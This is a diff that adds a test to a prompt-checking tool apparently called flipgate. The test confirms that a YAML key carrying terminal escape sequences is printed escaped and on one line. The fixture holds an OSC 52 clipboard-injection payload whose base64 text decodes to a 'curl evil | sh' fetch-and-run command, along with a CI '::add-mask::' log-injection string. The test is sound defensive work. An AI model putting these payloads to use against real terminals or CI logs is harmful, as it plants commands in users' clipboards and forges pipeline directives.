@@ -273,6 +273,22 @@ def test_a_head_that_moves_the_endpoint_exits_2_and_no_server_sees_a_request(
     assert server.requests == [] and attacker.requests == []
 
 
+def test_a_problem_quoting_the_heads_text_reaches_the_terminal_inert(server: FakeOpenAI, repo: GitRepo,
+                                                                   tmp_path: Path) -> None:
+    # A YAML key can hold any character ("\e" is ESC): printed raw, an OSC 52 sequence
+    # would set the clipboard of whoever runs flipgate on the PR, and a CR/LF would
+    # start a fresh CI log line such as ::add-mask::.
+    key = '"x\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\r\\n::add-mask::y\\x9b"'
+    repo.commit({"prompts/answer.prompty": PROMPT.replace(
+        "    model: gpt-4o-mini\n", f"    model: gpt-4o-mini\n    {key}: 1\n")})
+    result, _ = invoke(repo, tmp_path)
+    assert result.exit_code == 2, result.output
+    assert "unsupported key 'model.configuration.x\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in result.stderr
+    assert "\\n::add-mask::y\\x9b'" in result.stderr
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stderr)
+    assert len(result.stderr.splitlines()) == 1
+
+
 def test_a_missing_variable_exits_2_naming_template_line_and_case(server: FakeOpenAI, repo: GitRepo,
                                                                   tmp_path: Path) -> None:
     repo.commit({"prompts/answer.prompty": PROMPT.replace("{{ query }}", "{{ query }} {{ account }}")})
